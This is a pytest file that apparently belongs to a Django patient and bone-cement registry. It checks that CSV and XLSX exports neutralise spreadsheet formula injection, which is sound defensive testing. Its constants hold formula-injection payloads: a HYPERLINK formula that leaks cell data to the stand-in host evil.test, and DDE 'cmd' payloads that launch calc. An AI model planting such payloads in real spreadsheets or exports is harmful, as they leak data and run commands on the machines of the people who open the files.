"""Every spreadsheet and CSV the registry writes keeps typed-in formulas inert.

A formula payload goes in through each way text enters the registry (the coordinator's patient
registration and cement lot, the administrator's cement catalogue) and every export is read back:
no XLSX cell is a formula or an unmarked formula-like text, and no CSV cell starts with = + - @
(or a tab / carriage return) unless it is a plain number.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from registry.core.spreadsheet import FORMULA_PREFIXES, csv_safe, is_formula_like, xlsx_cell
from registry.imports.export import export_site
from registry.imports.reading import CSV, XLSX
from registry.patients.services import patient_register
from registry.procedures.services import cement_lot_get_or_create
from reports import services
from reports.models import QuarterlyReport
from tests.factories import CementProductFactory, ProcedureFactory, TreatedLevelFactory

LOT = '=HYPERLINK("http://evil.test/?"&A2,"x")'
GIVEN = "@SUM(1+1)*cmd|' /C calc'!A0"
FAMILY = "+cmd|' /C calc'!A0"
BRAND = "-2+3+cmd|' /C calc'!A0"
PAYLOADS = (LOT, GIVEN, FAMILY, BRAND)


@pytest.mark.parametrize(
    ("text", "neutralised"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd", "'+cmd"),
        ("-cmd", "'-cmd"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("\uff1d1+1", "'\uff1d1+1"),  # full-width equals sign
        ("-2.5", "-2.5"),  # a number calls nothing
        ("+34 600 123 456", "+34 600 123 456"),
        ("AB-12345", "AB-12345"),
        (3, 3),
    ],
)
def test_csv_cells_starting_like_a_formula_get_an_apostrophe(text, neutralised):
    assert csv_safe(text) == neutralised


def test_xlsx_formula_like_text_is_a_quote_prefixed_string_with_its_text_unchanged():
    workbook = load_workbook(io.BytesIO(_one_sheet([LOT, "=1+1", "plain", 4])))
    cells = list(workbook.active.iter_rows())[0]

    assert [cell.value for cell in cells] == [LOT, "=1+1", "plain", 4]
    assert [cell.data_type for cell in cells] == ["s", "s", "s", "n"]
    assert [bool(cell.quotePrefix) for cell in cells] == [True, True, False, False]


def _one_sheet(values):
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("x")
    sheet.append([xlsx_cell(sheet, value) for value in values])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


@pytest.fixture
def payload_case(site_a, coordinator_a):
    """One consented patient whose names, cement product and lot number are formula payloads."""
    patient = patient_register(
        site=site_a,
        acting_user=coordinator_a,
        data={
            "mrn": "MRN-F1",
            "given_name": GIVEN,
            "family_name": FAMILY,
            "date_of_birth": dt.date(1944, 5, 6),
            "sex": "female",
            "email": "formula@example.test",
            "consent_status": "consented",
            "consent_date": dt.date(2026, 2, 1),
            "consent_form_version": "v1",
        },
    )
    product = CementProductFactory(brand=BRAND)
    lot = cement_lot_get_or_create(product=product, lot_number=LOT, acting_user=coordinator_a)
    procedure = ProcedureFactory(patient=patient, performed_on=dt.date(2026, 2, 10))
    TreatedLevelFactory(procedure=procedure, cement_lot=lot)
    return patient


def assert_xlsx_inert(content: bytes) -> set[str]:
    workbook = load_workbook(io.BytesIO(content))
    seen = set()
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if is_formula_like(cell.value) or (isinstance(cell.value, str) and cell.value.startswith("=")):
                    assert cell.data_type == "s" and cell.quotePrefix, f"{sheet.title}!{cell.coordinate} unmarked"
                if isinstance(cell.value, str):
                    seen.add(cell.value)
    return seen


def assert_csv_inert(text: str) -> set[str]:
    seen = set()
    for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))):
        for cell in row:
            assert not is_formula_like(cell), f"formula-like CSV cell {cell!r}"
            assert cell[:1] not in FORMULA_PREFIXES or not is_formula_like(cell)
            seen.add(cell)
    return seen


def test_quarterly_report_xlsx_keeps_a_lot_number_formula_inert(payload_case, site_a):
    services.quarterly_reports_build(year=2026, quarter=1, today=dt.date(2026, 4, 1))
    report = QuarterlyReport.objects.get(site=site_a, year=2026, quarter=1)

    seen = assert_xlsx_inert(bytes(report.xlsx))
    assert LOT in seen and BRAND in seen


def test_identified_export_csv_and_xlsx_keep_names_and_lots_inert(payload_case, site_a, coordinator_a):
    content, _ = export_site(site=site_a, acting_user=coordinator_a, file_format=XLSX)
    seen = assert_xlsx_inert(content)
    assert {LOT, GIVEN, FAMILY} <= seen

    content, _ = export_site(site=site_a, acting_user=coordinator_a, file_format=CSV)
    seen = assert_csv_inert(content.decode("utf-8"))
    assert {f"'{LOT}", f"'{GIVEN}", f"'{FAMILY}"} <= seen


def test_research_export_csv_and_xlsx_keep_the_product_name_inert(payload_case, investigator_a, client_for):
    client = client_for(investigator_a)
    response = client.post(reverse("reports:research_export"), {"file_format": "xlsx"})
    assert response.status_code == 200
    assert BRAND in assert_xlsx_inert(response.content)

    response = client.post(reverse("reports:research_export"), {"file_format": "csv"})
    assert response.status_code == 200
    seen = set()
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        for name in archive.namelist():
            seen |= assert_csv_inert(archive.read(name).decode("utf-8"))
    assert f"'{BRAND}" in seen


def test_lot_recall_csv_keeps_every_cell_inert(payload_case, coordinator_a, client_for):
    product = payload_case.procedures.get().levels.get().cement_lot.product
    response = client_for(coordinator_a).get(reverse("procedures:lot_recall"), {"product": product.pk, "format": "csv"})
    assert response.status_code == 200
    seen = assert_csv_inert(response.content.decode("utf-8"))
    assert {f"'{LOT}", f"'{GIVEN}", f"'{FAMILY}"} <= seen
